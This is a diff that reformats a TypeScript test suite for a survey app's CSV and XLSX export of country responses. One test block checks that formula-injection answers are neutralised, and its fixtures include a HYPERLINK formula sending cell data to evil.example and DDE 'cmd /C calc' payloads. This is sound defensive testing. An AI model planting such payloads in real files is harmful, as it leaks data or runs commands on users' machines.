@@ -11,15 +11,30 @@ let app: TestApp;
 let round: TestRound;
 let viewer: Organizer;
 
-const kenya = { a1_1: 2, a1_2: 3, a1_3: 'na', a1_4: 1, a1_4_evidence: 'Census 2019, vol. II', a1_5: 'dk', a1_importance: 4, a1_target: 3, a1_share: 'maybe', a1_share_how: 'KNBS; census methods' };
+const kenya = {
+  a1_1: 2,
+  a1_2: 3,
+  a1_3: 'na',
+  a1_4: 1,
+  a1_4_evidence: 'Census 2019, vol. II',
+  a1_5: 'dk',
+  a1_importance: 4,
+  a1_target: 3,
+  a1_share: 'maybe',
+  a1_share_how: 'KNBS; census methods',
+};
 const niger = { a1_1: 0, a1_2: 1, a1_3: 1, a1_4: 'dk', a1_5: 4, a1_importance: 5, a1_target: 4, a1_share: 'no' };
 
 beforeAll(async () => {
   app = testApp();
   round = await createTestRound('a1-pilot');
   viewer = await createOrganizer(app.baseUrl, 'viewer');
-  expect((await postJson(`${app.baseUrl}/api/respondent/${round.kenya}/submit`, { answers: kenya, baseRevision: 0 })).status).toBe(200);
-  expect((await postJson(`${app.baseUrl}/api/respondent/${round.niger}/submit`, { answers: niger, baseRevision: 0 })).status).toBe(200);
+  expect(
+    (await postJson(`${app.baseUrl}/api/respondent/${round.kenya}/submit`, { answers: kenya, baseRevision: 0 })).status,
+  ).toBe(200);
+  expect(
+    (await postJson(`${app.baseUrl}/api/respondent/${round.niger}/submit`, { answers: niger, baseRevision: 0 })).status,
+  ).toBe(200);
 });
 
 async function download(path: string): Promise<{ status: number; type: string | null; body: Buffer }> {
@@ -59,7 +74,8 @@ describe('When a viewer exports the responses as XLSX in Spanish', () => {
     await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
     const sheet = workbook.getWorksheet('Responses')!;
     const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
-    const cell = (row: number, name: string) => sheet.getRow(row).getCell(headers.findIndex((h) => h.endsWith(`[${name}]`)) + 1).value;
+    const cell = (row: number, name: string) =>
+      sheet.getRow(row).getCell(headers.findIndex((h) => h.endsWith(`[${name}]`)) + 1).value;
     expect(sheet.rowCount).toBe(3);
     expect(sheet.getRow(3).getCell(1).value).toBe('NER');
     expect(cell(3, 'a1_1')).toBe('0 — Inexistente');
@@ -71,15 +87,26 @@ describe('When a viewer exports the responses as XLSX in Spanish', () => {
 
 describe('When answers hold text that a spreadsheet would run as a formula', () => {
   const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Evidence")';
-  const texts = { kenEvidence: hyperlink, kenHow: '@SUM(1+1)*cmd|" /C calc"!A0', nerEvidence: '+1+cmd|" /C calc"!A0', nerHow: '-2+3+cmd|" /C calc"!A0' };
+  const texts = {
+    kenEvidence: hyperlink,
+    kenHow: '@SUM(1+1)*cmd|" /C calc"!A0',
+    nerEvidence: '+1+cmd|" /C calc"!A0',
+    nerHow: '-2+3+cmd|" /C calc"!A0',
+  };
   let hostile: TestRound;
 
   beforeAll(async () => {
     hostile = await createTestRound('a1-pilot');
     const ken = { ...kenya, a1_4_evidence: texts.kenEvidence, a1_share_how: texts.kenHow };
     const ner = { ...niger, a1_4: 2, a1_4_evidence: texts.nerEvidence, a1_share: 'yes', a1_share_how: texts.nerHow };
-    expect((await postJson(`${app.baseUrl}/api/respondent/${hostile.kenya}/submit`, { answers: ken, baseRevision: 0 })).status).toBe(200);
-    expect((await postJson(`${app.baseUrl}/api/respondent/${hostile.niger}/submit`, { answers: ner, baseRevision: 0 })).status).toBe(200);
+    expect(
+      (await postJson(`${app.baseUrl}/api/respondent/${hostile.kenya}/submit`, { answers: ken, baseRevision: 0 }))
+        .status,
+    ).toBe(200);
+    expect(
+      (await postJson(`${app.baseUrl}/api/respondent/${hostile.niger}/submit`, { answers: ner, baseRevision: 0 }))
+        .status,
+    ).toBe(200);
   });
 
   it('then the CSV cell starts with a quote mark, so it is shown as text, while numbers stay numbers', async () => {
@@ -99,7 +126,8 @@ describe('When answers hold text that a spreadsheet would run as a formula', () 
     await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
     const sheet = workbook.getWorksheet('Responses')!;
     const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
-    const cell = (row: number, name: string) => sheet.getRow(row).getCell(headers.findIndex((h) => h.endsWith(`[${name}]`)) + 1);
+    const cell = (row: number, name: string) =>
+      sheet.getRow(row).getCell(headers.findIndex((h) => h.endsWith(`[${name}]`)) + 1);
     for (const [row, name, text] of [
       [2, 'a1_4_evidence', texts.kenEvidence],
       [2, 'a1_share_how', texts.kenHow],
